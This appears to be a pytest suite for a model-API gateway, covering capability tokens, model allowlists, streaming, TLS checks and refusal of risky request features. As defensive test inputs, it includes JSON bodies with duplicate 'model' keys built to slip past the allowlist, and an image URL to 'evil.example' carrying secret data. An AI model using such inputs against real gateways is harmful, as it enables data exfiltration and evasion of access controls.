"""The model-API gateway against the scripted API and a raw upstream: who gets through, what is
forwarded, how the answer streams, what is measured."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import json
import ssl

import pytest
from support.certs import CertificateAuthority
from support.egress import HttpClient, RawUpstream, RecordingSink, header_value

from helix_runner.domain.events import GatewayEventKind
from helix_runner.domain.usage import TokenUsage
from helix_runner.egress.capabilities import Capabilities, Grant, ModelAllowlist
from helix_runner.egress.gateway import ApiGateway, GatewaySettings
from helix_runner.egress.upstream import UpstreamUrl
from helix_runner.offline import ApiError, Reply, ScriptedApi
from helix_runner.offline.script import Usage
from helix_runner.offline.sse import render_blocks, sse_events

REAL_KEY = "sk-ant-real-key-of-the-server"
BODY = {"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
        "messages": [{"role": "user", "content": "hi"}]}


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture
async def scripted():
    api = ScriptedApi([Reply.text("Hello there.", usage=Usage(input_tokens=321, output_tokens=12))])
    async with api:
        yield api


async def start_gateway(upstream: str, *, ca_file=None) -> tuple[ApiGateway, Capabilities]:
    caps = Capabilities()
    gateway = await ApiGateway(GatewaySettings(UpstreamUrl.parse(upstream), lambda: REAL_KEY, ca_file=ca_file),
                               caps).start()
    return gateway, caps


def grant(sink: RecordingSink, models: tuple[str, ...] | None = None, phase: str = "p1") -> Grant:
    return Grant(job_id="job", phase_id=phase, project="proj", sink=sink,
                 models=None if models is None else ModelAllowlist(models))


async def post(gateway: ApiGateway, headers: dict[str, str], body=BODY, path: str = "/v1/messages?beta=true",
               **kwargs):
    client = await HttpClient.connect(gateway.port)
    try:
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        return await client.request("POST", path, {"content-type": "application/json", **headers}, raw, **kwargs)
    finally:
        await client.close()


async def test_without_a_live_capability_nothing_reaches_the_api(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        sink = RecordingSink()
        revoked = caps.issue(grant(sink))
        caps.revoke(revoked)
        for headers in ({}, {"x-api-key": REAL_KEY}, {"x-api-key": "helix-cap-guessed"}, {"x-api-key": revoked},
                        {"authorization": f"Bearer {revoked}"}):
            response = await post(gateway, headers)
            assert response.status == 401, headers
            error = json.loads(response.body)
            assert error["type"] == "error" and error["error"]["type"] == "authentication_error"
            assert response.headers["x-should-retry"] == "false"
        assert scripted.requests == []
        assert sink.responses == [] and sink.events == []
    finally:
        await gateway.stop()


async def test_a_phase_s_request_reaches_the_api_with_the_real_key_and_is_metered(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        sink = RecordingSink()
        capability = caps.issue(grant(sink))
        response = await post(gateway, {"x-api-key": capability, "anthropic-version": "2023-06-01"})
        assert response.status == 200 and response.headers["content-type"].startswith("text/event-stream")
        assert b"Hello there." not in response.body  # word-sized deltas
        assert b"message_stop" in response.body
        (recorded,) = scripted.message_requests()
        assert recorded.api_key_sha256 == sha256(REAL_KEY)  # the key, never the capability
        assert recorded.headers["anthropic-version"] == "2023-06-01"
        assert recorded.query == "beta=true" and recorded.body == BODY
        assert recorded.headers.get("authorization") is None
        assert sink.responses == [("claude-sonnet-4-5", 200, TokenUsage(input_tokens=321, output_tokens=12))]
        # The bearer form (ANTHROPIC_AUTH_TOKEN) works too.
        response = await post(gateway, {"authorization": f"Bearer {capability}"})
        assert response.status == 200 and len(sink.responses) == 2
    finally:
        await gateway.stop()


async def test_one_phase_s_capability_is_its_own_grant(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        mine, theirs = RecordingSink(), RecordingSink()
        caps.issue(grant(mine, phase="p1"))
        theirs_cap = caps.issue(grant(theirs, phase="p2"))
        await post(gateway, {"x-api-key": theirs_cap})
        assert len(theirs.responses) == 1 and mine.responses == []
    finally:
        await gateway.stop()


async def test_only_the_messages_and_models_api_is_served(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        capability = caps.issue(grant(RecordingSink()))
        for method, path in (("POST", "/v1/messages/batches"), ("GET", "/v1/files"), ("POST", "/v1/complete"),
                             ("DELETE", "/v1/messages"), ("POST", "/api/oauth/token")):
            client = await HttpClient.connect(gateway.port)
            response = await client.request(method, path, {"x-api-key": capability}, b"{}")
            await client.close()
            assert response.status == 404, path
            assert json.loads(response.body)["error"]["type"] == "not_found_error"
        assert scripted.requests == []
        response = await post(gateway, {"x-api-key": capability}, path="/v1/messages/count_tokens")
        assert response.status == 200 and json.loads(response.body)["input_tokens"] > 0
    finally:
        await gateway.stop()


async def test_the_project_s_model_allowlist_refuses_other_models(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        sink = RecordingSink()
        capability = caps.issue(grant(sink, models=("claude-haiku-*",)))
        response = await post(gateway, {"x-api-key": capability})
        assert response.status == 403
        error = json.loads(response.body)["error"]
        assert error["type"] == "permission_error"
        assert "claude-sonnet-4-5 is not allowed for project proj" in error["message"]
        assert response.headers["x-should-retry"] == "false"
        assert scripted.requests == []
        (event,) = sink.events
        assert event.kind is GatewayEventKind.MODEL_REFUSED and event.model == "claude-sonnet-4-5"
        assert event.http_status == 403
        allowed = await post(gateway, {"x-api-key": capability}, body={**BODY, "model": "claude-haiku-4-5"})
        assert allowed.status == 200
        assert scripted.message_requests()[0].model == "claude-haiku-4-5"
    finally:
        await gateway.stop()


async def ok_answer(head, body, writer):
    writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")


async def test_two_model_keys_cannot_show_the_check_one_model_and_the_api_another() -> None:
    """The body the API gets is the one checked, byte for byte: so a top-level key twice (which the
    check and the API might each read differently: first or last) is refused, however it is spelled
    and however the body is encoded; a ``model`` key deeper down is no such thing."""
    async with RawUpstream(ok_answer) as upstream:
        gateway, caps = await start_gateway(upstream.url)
        try:
            sink = RecordingSink()
            capability = caps.issue(grant(sink, models=("claude-haiku-*",)))
            for body in (b'{"model":"claude-opus-4-1","max_tokens":5,"messages":[],"model":"claude-haiku-4-5"}',
                         b'{"model":"claude-haiku-4-5","max_tokens":5,"mod\\u0065l":"claude-opus-4-1"}',
                         b'{"model":"claude-haiku-4-5","messages":[], "messages" :[]}',
                         gzip.compress(b'{"model":"claude-opus-4-1","model":"claude-haiku-4-5"}')):
                headers = {"x-api-key": capability}
                if body[:2] == b"\x1f\x8b":
                    headers["content-encoding"] = "gzip"
                refused = await post(gateway, headers, body=body)
                assert refused.status == 400, body
                assert "twice" in json.loads(refused.body)["error"]["message"]
            assert upstream.requests == []
            nested = b'{"model":"claude-haiku-4-5","metadata":{"model":"claude-opus-4-1"},"messages":[]}'
            response = await post(gateway, {"x-api-key": capability}, body=nested)
            assert response.status == 200
            assert upstream.requests[-1][1] == nested  # forwarded as it came
            refused = await post(gateway, {"x-api-key": capability}, body=b"[1,2]")
            assert refused.status == 400 and len(upstream.requests) == 1
        finally:
            await gateway.stop()


async def test_a_checked_body_goes_upstream_before_the_check_but_a_refused_one_never_whole() -> None:
    """With a model allowlist, the body is written to a kept-alive API connection up to (not
    including) its last ``}`` before the model is checked, so the API receives it while the gateway
    parses; the rest follows once the check passed. A refused body's connection is closed instead:
    the API has a request whose ``content-length`` says its body is incomplete, and whose bytes are
    no complete JSON value either, so it answers nothing and runs nothing."""
    async with RawUpstream(ok_answer) as upstream:
        gateway, caps = await start_gateway(upstream.url)
        try:
            capability = caps.issue(grant(RecordingSink(), models=("claude-haiku-*",)))
            allowed = json.dumps({**BODY, "model": "claude-haiku-4-5"}).encode() + b"  \n"
            assert (await post(gateway, {"x-api-key": capability}, body=allowed)).status == 200  # warms the pool
            assert upstream.requests[-1][1] == allowed
            refused_body = json.dumps(BODY).encode()
            response = await post(gateway, {"x-api-key": capability}, body=refused_body)
            assert response.status == 403
            for _ in range(100):  # the connection's end reaches the upstream's reader
                if upstream.incomplete:
                    break
                await asyncio.sleep(0.02)
            (head, sent), = upstream.incomplete
            assert header_value(head, b"content-length") == str(len(refused_body)).encode()
            assert sent == refused_body[:refused_body.rindex(b"}")]  # all of it but its last brace
            with pytest.raises(json.JSONDecodeError):  # and so no JSON value, whatever reads it
                json.loads(sent)
            assert len(upstream.requests) == 1
        finally:
            await gateway.stop()


async def test_the_scripted_api_does_nothing_with_a_body_cut_short(scripted) -> None:
    """The claim the early forwarding rests on, checked against the scripted API itself: a request
    whose connection ends before its body is whole is neither recorded nor answered. (Before, the
    scripted API took the short read for the whole body and answered it: the claim holds for a
    server that checks its framing, which is why the gateway also holds the last ``}`` back.)"""
    body = json.dumps(BODY).encode()
    reader, writer = await asyncio.open_connection("127.0.0.1", int(scripted.base_url.rsplit(":", 1)[1]))
    writer.write(b"POST /v1/messages HTTP/1.1\r\nhost: api\r\nx-api-key: k\r\ncontent-type: application/json\r\n"
                 b"content-length: %d\r\n\r\n%s" % (len(body), body[:body.rindex(b"}")]))
    await writer.drain()
    writer.transport.abort()
    await asyncio.sleep(0.3)
    assert scripted.requests == []
    # ... while the same connection with the whole body is a request.
    reader, writer = await asyncio.open_connection("127.0.0.1", int(scripted.base_url.rsplit(":", 1)[1]))
    writer.write(b"POST /v1/messages HTTP/1.1\r\nhost: api\r\nx-api-key: k\r\ncontent-type: application/json\r\n"
                 b"content-length: %d\r\n\r\n%s" % (len(body), body))
    await writer.drain()
    assert (await asyncio.wait_for(reader.readuntil(b"\r\n"), 10)).startswith(b"HTTP/1.1 200")
    writer.close()
    assert len(scripted.message_requests()) == 1


async def test_429_and_529_are_counted_and_reported_as_they_happen(scripted) -> None:
    scripted.set_script([ApiError(429, retry_after=7, should_retry=False),
                         ApiError(529, should_retry=False)])
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        sink = RecordingSink()
        capability = caps.issue(grant(sink))
        first = await post(gateway, {"x-api-key": capability})
        second = await post(gateway, {"x-api-key": capability})
        assert (first.status, second.status) == (429, 529)
        assert first.headers["retry-after"] == "7"  # the API's own headers and body pass through
        assert json.loads(second.body)["error"]["type"] == "overloaded_error"
        rate, overload = sink.events
        assert rate.kind is GatewayEventKind.RATE_LIMITED and rate.http_status == 429
        assert rate.retry_after_ns == 7_000_000_000 and rate.model == "claude-sonnet-4-5"
        assert rate.request_id.startswith("req_scripted") and "rate_limit_error" in rate.message
        assert overload.kind is GatewayEventKind.OVERLOADED and overload.http_status == 529
        assert [s for _, s, _ in sink.responses] == [429, 529]
    finally:
        await gateway.stop()


REPLY = Reply.text("streamed word by word", usage=Usage(input_tokens=5, output_tokens=9))
STREAM = b"".join(sse_events("msg_1", "claude-x", render_blocks(REPLY, lambda: "t"), REPLY))


async def test_the_answer_streams_through_byte_for_byte_and_chunk_by_chunk() -> None:
    """The upstream sends the first event, then waits until the client has it: a gateway that
    buffered the answer would never deliver it, and the wait would time out."""
    first_seen = asyncio.Event()
    cut = STREAM.index(b"\n\n") + 2

    async def answer(head, body, writer):
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n")
        writer.write(b"%x\r\n%s\r\n" % (cut, STREAM[:cut]))
        await writer.drain()
        await asyncio.wait_for(first_seen.wait(), 10)
        rest = STREAM[cut:]
        for i in range(0, len(rest), 100):
            piece = rest[i:i + 100]
            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        writer.write(b"0\r\n\r\n")

    async with RawUpstream(answer) as upstream:
        gateway, caps = await start_gateway(upstream.url)
        try:
            sink = RecordingSink()
            capability = caps.issue(grant(sink))

            def on_chunk(chunk: bytes) -> None:
                if b"message_start" in chunk:
                    first_seen.set()

            response = await post(gateway, {"x-api-key": capability}, on_chunk=on_chunk)
            assert response.body == STREAM
            assert response.chunks[0] == STREAM[:cut]
            assert sink.responses == [("claude-x", 200, TokenUsage(input_tokens=5, output_tokens=9))]
            head, _ = upstream.requests[0]
            assert header_value(head, b"x-api-key") == REAL_KEY.encode()
            assert header_value(head, b"accept-encoding") == b"identity"
        finally:
            await gateway.stop()


async def test_an_overload_mid_stream_is_reported() -> None:
    async def answer(head, body, writer):
        data = STREAM[:200] + (b'event: error\ndata: {"type":"error","error":{"type":"overloaded_error",'
                               b'"message":"Overloaded"}}\n\n')
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: %d\r\n\r\n%s"
                     % (len(data), data))

    async with RawUpstream(answer) as upstream:
        gateway, caps = await start_gateway(upstream.url)
        try:
            sink = RecordingSink()
            response = await post(gateway, {"x-api-key": caps.issue(grant(sink))})
            assert response.status == 200 and b"overloaded_error" in response.body
            (event,) = sink.events
            assert event.kind is GatewayEventKind.OVERLOADED and event.http_status == 200
            assert "mid-stream" in event.message
        finally:
            await gateway.stop()


async def test_an_unreachable_api_is_a_502_and_an_event() -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed once the block ends: nothing listens there
    gateway, caps = await start_gateway(f"http://127.0.0.1:{port}")
    try:
        sink = RecordingSink()
        response = await post(gateway, {"x-api-key": caps.issue(grant(sink))})
        assert response.status == 502 and json.loads(response.body)["error"]["type"] == "api_error"
        (event,) = sink.events
        assert event.kind is GatewayEventKind.UPSTREAM_FAILED
    finally:
        await gateway.stop()


async def test_a_kept_alive_connection_the_api_closed_is_retried_once() -> None:
    answers = 0

    async def answer(head, body, writer):
        nonlocal answers
        answers += 1
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")
        await writer.drain()
        writer.close()  # keep-alive announced, then dropped: the next request on it finds it closed

    async with RawUpstream(answer) as upstream:
        gateway, caps = await start_gateway(upstream.url)
        try:
            capability = caps.issue(grant(RecordingSink()))
            for _ in range(3):
                await asyncio.sleep(0.05)  # let the close reach the gateway or not: either way it must work
                assert (await post(gateway, {"x-api-key": capability})).status == 200
            assert answers == 3
        finally:
            await gateway.stop()


async def test_the_api_s_tls_certificate_is_verified(tmp_path) -> None:
    ca = CertificateAuthority(tmp_path / "ca")
    leaf = ca.issue("api", dns=("localhost",), ips=("127.0.0.1",))
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(leaf.cert_file, leaf.key_file)

    async def serve(reader, writer):
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError, ssl.SSLError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, ssl=context)
    url = f"https://localhost:{server.sockets[0].getsockname()[1]}"
    try:
        untrusting, caps = await start_gateway(url)  # the system's roots do not know this CA
        try:
            sink = RecordingSink()
            response = await post(untrusting, {"x-api-key": caps.issue(grant(sink))})
            assert response.status == 502 and "not trusted" in json.loads(response.body)["error"]["message"]
            assert sink.events[0].kind is GatewayEventKind.UPSTREAM_FAILED
        finally:
            await untrusting.stop()
        trusting, caps = await start_gateway(url, ca_file=ca.ca_file)
        try:
            response = await post(trusting, {"x-api-key": caps.issue(grant(RecordingSink()))})
            assert response.status == 200
        finally:
            await trusting.stop()
    finally:
        server.close()


async def test_bad_requests_are_answered_not_crashed_on(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", gateway.port)
        writer.write(b"NOT HTTP AT ALL\r\n\r\n")
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 5)
        assert answer.startswith(b"HTTP/1.1 400 ")
        writer.close()
        huge = {"x-big": "y" * 70_000}
        response = await post(gateway, {"x-api-key": caps.issue(grant(RecordingSink())), **huge})
        assert response.status == 431
        assert scripted.requests == []
    finally:
        await gateway.stop()


async def test_a_client_that_expects_100_continue_gets_it_and_the_api_gets_no_expect(scripted) -> None:
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        body = json.dumps(BODY).encode()
        reader, writer = await asyncio.open_connection("127.0.0.1", gateway.port)
        writer.write(b"POST /v1/messages HTTP/1.1\r\nhost: g\r\nx-api-key: %s\r\ncontent-type: application/json\r\n"
                     b"expect: 100-continue\r\ncontent-length: %d\r\n\r\n"
                     % (caps.issue(grant(RecordingSink())).encode(), len(body)))
        await writer.drain()
        interim = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        assert interim == b"HTTP/1.1 100 Continue\r\n\r\n"
        writer.write(body)
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        assert head.startswith(b"HTTP/1.1 200 ")
        writer.close()
        (recorded,) = scripted.message_requests()
        assert "expect" not in recorded.headers
    finally:
        await gateway.stop()


async def test_the_idle_timeout_counts_from_the_last_activity() -> None:
    from helix_runner.egress.idle_timer import IdleTimer

    fired = asyncio.Event()
    timer = IdleTimer(0.2, fired.set)
    timer.start()
    for _ in range(6):  # activity every 0.1 s keeps it from firing for 0.6 s
        await asyncio.sleep(0.1)
        assert not fired.is_set()
        timer.touch()
    await asyncio.wait_for(fired.wait(), 5)
    cancelled = IdleTimer(0.05, lambda: pytest.fail("a cancelled timer fired"))
    cancelled.start()
    cancelled.cancel()
    await asyncio.sleep(0.1)


async def test_a_request_that_makes_the_api_reach_out_is_refused_unless_the_grant_allows_it(scripted) -> None:
    """Issue 30.4: before, the gateway forwarded any Messages body; a URL image made the API fetch an
    address the tool chose, with the phase's data in it."""
    gateway, caps = await start_gateway(scripted.base_url)
    try:
        sink = RecordingSink()
        capability = caps.issue(grant(sink))
        url_image = {**BODY, "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}]}]}
        response = await post(gateway, {"x-api-key": capability}, body=url_image)
        assert response.status == 400
        error = json.loads(response.body)
        assert error["type"] == "error" and error["error"]["type"] == "invalid_request_error"
        assert "refused url_sources at messages[0].content[0]" in error["error"]["message"]
        assert scripted.requests == []
        (event,) = sink.events
        assert event.kind is GatewayEventKind.FEATURE_REFUSED and event.http_status == 400
        # count_tokens too; gzip does not hide it.
        response = await post(gateway, {"x-api-key": capability, "content-encoding": "gzip"},
                              body=gzip.compress(json.dumps({**BODY, "mcp_servers": [{"url": "u"}]}).encode()),
                              path="/v1/messages/count_tokens")
        assert response.status == 400 and "mcp_servers" in json.loads(response.body)["error"]["message"]
        # A grant that names the feature lets it through; an ordinary request always passes.
        allowed = caps.issue(Grant(job_id="job", phase_id="p2", project="proj", sink=RecordingSink(),
                                   features=frozenset({"url_sources"})))
        assert (await post(gateway, {"x-api-key": allowed}, body=url_image)).status == 200
        assert (await post(gateway, {"x-api-key": capability})).status == 200
    finally:
        await gateway.stop()
